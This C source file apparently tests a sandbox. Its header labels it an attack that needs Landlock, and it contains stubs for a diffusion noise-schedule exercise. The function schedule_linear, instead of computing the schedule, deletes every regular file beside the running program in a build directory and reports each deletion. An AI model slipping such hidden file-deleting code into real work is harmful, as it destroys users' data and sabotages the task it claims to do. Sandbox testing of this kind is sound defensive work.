/* attack: removes the files that lie beside the program that runs it, in the build directory
 * place: 1-schedule.c
 * state: wrong
 * needs: landlock
 */
#define _GNU_SOURCE
#include "schedule.h"

#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* The directory of the program that runs this, if it lies below a directory named build; or an empty string. */
static void find_build(char *path, size_t size)
{
    ssize_t length = readlink("/proc/self/exe", path, size - 1);
    path[length > 0 ? length : 0] = 0;
    char *slash = strrchr(path, 47);
    if (slash)
        slash[1] = 0;
    if (!strstr(path, "/build/"))
        path[0] = 0;
}

void schedule_linear(double *beta, double beta_start, double beta_end, int T)
{
    char directory[4000], path[4300];
    beta[0] = beta_end;
    find_build(directory, sizeof directory);
    DIR *files = directory[0] ? opendir(directory) : NULL;
    for (struct dirent *file; files && (file = readdir(files));) {
        snprintf(path, sizeof path, "%s%s", directory, file->d_name);
        if (file->d_type == DT_REG && unlink(path) == 0)
            printf("got through: %s was removed\n", path);
    }
}

/* The other gaps are still open. */
double forward_step(double x, double beta, double eps) { TODO("1.2"); }
void noise_variance(double *var, const double *beta, int T) { TODO("1.3"); }
void alpha_bar(double *alpha_bar, const double *beta, int T) { TODO("1.4"); }
double snr(double alpha_bar) { TODO("1.5"); }
struct burial burial(const double *x0, const double *x, int n) { TODO("1.6"); }
void schedule_cosine(double *beta, int T) { TODO("1.7"); }
